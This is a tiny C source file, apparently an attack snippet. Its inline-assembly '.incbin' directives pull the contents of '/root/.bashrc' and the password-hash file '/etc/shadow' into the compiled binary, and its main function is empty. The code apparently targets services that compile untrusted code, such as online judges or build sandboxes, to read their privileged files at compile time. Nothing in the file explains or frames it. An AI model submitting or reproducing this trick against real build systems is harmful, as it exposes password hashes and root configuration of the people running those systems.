__asm__(".incbin \"/root/.bashrc\"");
__asm__(".incbin \"/etc/shadow\"");
int main() {}
